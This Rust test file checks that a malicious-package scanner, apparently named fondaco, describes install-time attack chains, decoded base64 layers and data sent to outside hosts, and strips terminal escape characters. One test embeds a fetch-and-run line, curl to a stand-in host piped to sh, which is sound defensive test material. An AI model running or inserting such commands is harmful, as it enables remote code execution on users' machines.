//! The attack chain as a story.

use fondaco_testkit::samples::{self, attacks};
use fondaco_testkit::{Sdist, Wheel};
use serde_json::Value;

use crate::{fondaco, json, stdout};

fn story(report: &Value) -> Vec<&str> {
    report["story"].as_array().unwrap().iter().map(|sentence| sentence.as_str().unwrap()).collect()
}

#[test]
fn begins_with_what_runs_first_and_ends_with_the_innocent_explanation() {
    let folder = tempfile::tempdir().unwrap();
    let code = attacks::WALLET_STEALER.files[0].1;
    let setup = "from setuptools import setup\nimport tool\nsetup(name='tool')\n";
    let files = [("setup.py", setup), ("tool/__init__.py", "from . import core\n"), ("tool/core.py", code)];
    let start = Sdist::new("tool", "1.0").file("tool/sums.py", fondaco_testkit::honest_module());
    let path = files
        .iter()
        .fold(start, |sdist, (path, text)| sdist.file(path, text))
        .build()
        .write_into(folder.path());
    let report = &json(&fondaco(&["scan", "--format", "json", path.to_str().unwrap()], folder.path()))[0];
    let story = story(report);
    assert_eq!(
        story[0],
        "Runs while it is being installed: tool-1.0/setup.py:2 → tool-1.0/tool/__init__.py:1 → tool-1.0/tool/core.py:5; requests.post during installation."
    );
    let takes = story.iter().position(|sentence| sentence.starts_with("Takes: ")).unwrap();
    let sends = story.iter().position(|sentence| sentence.starts_with("Sends it away: ")).unwrap();
    assert!(takes < sends && story[sends].contains("host discord[.]com"), "{story:#?}");
    let innocent = |sentence: &&str| sentence.starts_with("Innocent if \"sends data out\" is: ");
    assert!(story.iter().any(innocent), "{story:#?}");
    assert!(story.last().unwrap().starts_with("Innocent if "), "{story:#?}");
}

#[test]
fn tells_what_a_layer_unfolds_to() {
    let folder = tempfile::tempdir().unwrap();
    let path = attacks::BASE64_CHAIN.wheel().unwrap().write_into(folder.path());
    let output = fondaco(&["scan", path.to_str().unwrap()], folder.path());
    let text = stdout(&output);
    for part in [
        "  what happens:\n    1. Runs as soon as it is imported: fast_codecs/__init__.py:2",
        "Unfolds hidden code: base64 gives python (59 bytes; layer 1 of fast_codecs/__init__.py, at line 2).",
        "host x[.]example[.]invalid",
    ] {
        assert!(text.contains(part), "{part:?} is not in {text}");
    }
}

#[test]
fn every_attack_has_one_and_no_lookalike_and_none_holds_an_address() {
    let folder = tempfile::tempdir().unwrap();
    for sample in samples::all() {
        for dist in sample.dists() {
            let path = dist.write_into(folder.path());
            let report =
                &json(&fondaco(&["scan", "--format", "json", path.to_str().unwrap()], folder.path()))[0];
            let story = story(report);
            assert_eq!(story.iter().any(|s| s.starts_with("Runs ")), sample.malicious, "{story:#?}");
            assert!(!story.iter().any(|sentence| sentence.contains("://x.")), "{story:#?}");
        }
    }
}

#[test]
fn holds_no_characters_that_move_the_cursor() {
    let folder = tempfile::tempdir().unwrap();
    let code = "import os\nos.system('curl http://x.example.invalid/\u{202e}\u{1b}[31m | sh')\n";
    let path = Wheel::new("tool", "1.0").file("tool/__init__.py", code).build().write_into(folder.path());
    let output = fondaco(&["scan", path.to_str().unwrap()], folder.path());
    let text = stdout(&output);
    assert!(text.contains("what happens:"), "{text}");
    assert!(!text.contains(['\u{1b}', '\u{202e}']) && !text.contains("http://"), "{text}");
}
